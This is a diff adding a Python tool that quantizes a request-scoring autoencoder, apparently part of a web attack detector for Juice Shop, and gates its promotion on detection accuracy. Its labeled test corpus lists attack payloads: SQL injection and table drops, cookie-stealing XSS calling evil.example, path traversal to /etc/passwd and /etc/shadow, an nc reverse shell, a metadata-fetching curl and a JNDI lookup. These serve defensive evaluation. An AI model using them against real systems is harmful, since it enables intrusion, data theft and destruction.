@@ -0,0 +1,236 @@
+"""
+Build the int8 model and gate its promotion on accuracy.
+
+Quantizes the loaded fp32 CharAutoencoder (see int8_model.py), scores a
+labeled corpus with both models and compares:
+
+    - ae_score distributions per label, and the per-request |int8 - fp32| drift
+    - BENIGN / SUSPICIOUS / MALICIOUS agreement at LOW_THRESHOLD / HIGH_THRESHOLD
+    - detection rate on malicious and false-positive rate on benign requests
+
+char_ae_int8.pt (served with MODEL_PRECISION=int8) is written next to the
+loaded version's fp32 weights, and only if the agreement stays at or above
+--min-agreement, the detection rate does not drop and the false-positive
+rate does not rise by more than --max-rate-change. Otherwise the tool exits
+with status 1 and leaves the current int8 model in place.
+
+The corpus is JSONL with method, url and either label ("benign" or
+"malicious") or a proxy traffic-log verdict ("blocked" / "alert" count as
+malicious). Without --corpus a built-in set of Juice Shop requests is used.
+
+Usage (from ml_service/):
+    python quantize_model.py [--corpus traffic.jsonl] [--min-agreement 0.99] [--dry-run]
+"""
+
+import argparse
+import copy
+import json
+import logging
+import os
+import random
+import sys
+import time
+
+import torch
+
+import app
+from bench_threads import sample_paths
+from int8_model import quantize_model
+
+BENIGN_PATHS = [
+    "/",
+    "/rest/products/search?q={word}",
+    "/api/Products/{n}",
+    "/api/Products/{n}/reviews",
+    "/rest/products/{n}/reviews",
+    "/rest/basket/{n}",
+    "/api/BasketItems/{n}",
+    "/api/Quantitys/",
+    "/rest/user/whoami",
+    "/rest/user/login",
+    "/rest/languages",
+    "/rest/admin/application-version",
+    "/rest/admin/application-configuration",
+    "/api/Challenges/?name=Score%20Board",
+    "/api/Feedbacks/?comment={word}&rating={r}",
+    "/api/Addresss/{n}",
+    "/api/Cards/",
+    "/assets/public/images/products/{word}.jpg",
+    "/assets/i18n/en.json",
+    "/socket.io/?EIO=4&transport=polling&t=P{token}",
+    "/rest/track-order/{token}",
+    "/rest/deluxe-membership",
+    "/api/Deliverys",
+    "/rest/wallet/balance",
+    "/ftp/legal.md",
+]
+
+WORDS = ["apple", "banana", "juice", "lemon", "orange", "green smoothie", "t-shirt",
+         "sticker", "melon bike", "carrot", "eggfruit", "strawberry", "owasp", "mug"]
+
+MALICIOUS_TEMPLATES = [
+    "/rest/products/search?q={p}",
+    "/api/Products/{p}",
+    "/api/Feedbacks/?comment={p}&rating=5",
+    "/rest/user/login?email={p}",
+    "/ftp/{p}",
+    "/profile?name={p}",
+]
+
+PAYLOADS = [
+    "' or 1=1--",
+    "1' or '1'='1",
+    "')) union select id,email,password,4,5,6,7,8,9 from users--",
+    "1 union select null,sqlite_version()--",
+    "admin'--",
+    "1;DROP TABLE users",
+    "1 and sleep(5)",
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<iframe src=\"javascript:alert(`xss`)\">",
+    "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2fwindows%2fwin.ini",
+    "package.json.bak%2500.md",
+    "php://filter/convert.base64-encode/resource=index.php",
+    ";cat /etc/shadow",
+    "|nc -e /bin/sh 10.0.0.1 4444",
+    "$(curl http://169.254.169.254/latest/meta-data/)",
+    "{{7*7}}",
+    "${jndi:ldap://evil.example/a}",
+]
+
+
+def builtin_corpus(seed: int = 7) -> list:
+    """Deterministic labeled requests: [{"method", "url", "label"}]."""
+    rng = random.Random(seed)
+    corpus = []
+    for _ in range(400):
+        path = rng.choice(BENIGN_PATHS).format(
+            word=rng.choice(WORDS), n=rng.randint(1, 48), r=rng.randint(1, 5),
+            token="".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(6, 16))),
+        )
+        corpus.append({"method": rng.choice(["GET", "GET", "GET", "POST"]), "url": path, "label": "benign"})
+    for template in MALICIOUS_TEMPLATES:
+        for payload in PAYLOADS:
+            corpus.append({"method": rng.choice(["GET", "POST"]), "url": template.format(p=payload), "label": "malicious"})
+    return corpus
+
+
+def load_corpus(path: str) -> list:
+    corpus = []
+    with open(path, "r", encoding="utf-8") as f:
+        for line in f:
+            if not line.strip():
+                continue
+            entry = json.loads(line)
+            label = entry.get("label")
+            if label is None:
+                label = "malicious" if entry.get("verdict") in ("blocked", "alert") else "benign"
+            corpus.append({"method": entry.get("method", "GET"), "url": entry["url"], "label": label})
+    return corpus
+
+
+def band(score: float, low: float, high: float) -> int:
+    return 2 if score >= high else 1 if score >= low else 0
+
+
+def quantiles(values: list) -> dict:
+    values = sorted(values)
+    pick = lambda q: round(values[min(len(values) - 1, int(q * len(values)))], 4) if values else 0.0
+    return {"p50": pick(0.5), "p90": pick(0.9), "p99": pick(0.99), "max": round(values[-1], 4) if values else 0.0}
+
+
+def compare(corpus: list, fp32: list, int8: list, low: float, high: float) -> dict:
+    """Agreement and per-label rates of int8 vs fp32 scores."""
+    agree = sum(band(a, low, high) == band(b, low, high) for a, b in zip(fp32, int8))
+    report = {
+        "requests": len(corpus),
+        "band_agreement": agree / len(corpus),
+        "abs_drift": quantiles([abs(a - b) for a, b in zip(fp32, int8)]),
+        "labels": {},
+    }
+    for label in ("benign", "malicious"):
+        idx = [i for i, item in enumerate(corpus) if item["label"] == label]
+        if not idx:
+            continue
+        stats = {"count": len(idx)}
+        for name, scores in (("fp32", fp32), ("int8", int8)):
+            s = [scores[i] for i in idx]
+            stats[name] = {
+                "scores": quantiles(s),
+                "rate_low": sum(v >= low for v in s) / len(s),     # flagged SUSPICIOUS or worse
+                "rate_high": sum(v >= high for v in s) / len(s),   # flagged MALICIOUS
+            }
+        report["labels"][label] = stats
+    return report
+
+
+def gate(report: dict, min_agreement: float, max_rate_change: float) -> list:
+    """Reasons to refuse promotion (empty when int8 may be promoted)."""
+    failures = []
+    if report["band_agreement"] < min_agreement:
+        failures.append(f"band agreement {report['band_agreement']:.4f} < {min_agreement}")
+    for label, stats in report["labels"].items():
+        # Worse means fewer malicious requests flagged or more benign ones
+        sign = -1 if label == "malicious" else 1
+        for rate in ("rate_low", "rate_high"):
+            change = stats["int8"][rate] - stats["fp32"][rate]
+            if sign * change > max_rate_change:
+                failures.append(f"{label} {rate} moved {change:+.4f} (limit {max_rate_change})")
+    return failures
+
+
+def per_batch_ms(texts: list, model, repeat: int = 20) -> float:
+    app.compute_ae_scores(texts, collapsed=True, model=model)
+    start = time.perf_counter()
+    for _ in range(repeat):
+        app.compute_ae_scores(texts, collapsed=True, model=model)
+    return (time.perf_counter() - start) / repeat * 1000
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--corpus", help="labeled JSONL corpus (default: built-in requests)")
+    parser.add_argument("--min-agreement", type=float, default=0.99)
+    parser.add_argument("--max-rate-change", type=float, default=0.01)
+    parser.add_argument("--low", type=float, default=app.LOW_THRESHOLD)
+    parser.add_argument("--high", type=float, default=app.HIGH_THRESHOLD)
+    parser.add_argument("--dry-run", action="store_true", help="report only, never write the int8 model")
+    args = parser.parse_args()
+
+    logging.disable(logging.INFO)
+    app.MODEL_PRECISION = "fp32"
+    app.ML_BACKEND = "eager"
+    app.load_model()
+    fp32_model = app.active
+    int8_model = copy.copy(fp32_model)
+    int8_model.ae_model = quantize_model(fp32_model.ae_model)
+
+    corpus = load_corpus(args.corpus) if args.corpus else builtin_corpus()
+    texts = [app.build_text(item["url"], item["method"]) for item in corpus]
+    bench = [app.build_text(p) for p in sample_paths(32)]
+
+    fp32 = app.compute_ae_scores(texts, collapsed=True, model=fp32_model)
+    fp32_ms = per_batch_ms(bench, fp32_model)
+    int8 = app.compute_ae_scores(texts, collapsed=True, model=int8_model)
+    int8_ms = per_batch_ms(bench, int8_model)
+
+    report = compare(corpus, fp32, int8, args.low, args.high)
+    report["batch32_ms"] = {"fp32": round(fp32_ms, 2), "int8": round(int8_ms, 2)}
+    print(json.dumps(report, indent=2))
+
+    failures = gate(report, args.min_agreement, args.max_rate_change)
+    if failures:
+        print("int8 model NOT promoted:\n  " + "\n  ".join(failures))
+        sys.exit(1)
+    if args.dry_run:
+        print("int8 model passes the gate (dry run, nothing written)")
+        return
+    path = os.path.join(fp32_model.directory, app.INT8_MODEL_FILE)
+    torch.save({"source_digest": fp32_model.digest, "state_dict": int8_model.ae_model.state_dict()}, path)
+    print(f"int8 model passes the gate, wrote {path} (serve with MODEL_PRECISION=int8)")
+
+
+if __name__ == "__main__":
+    main()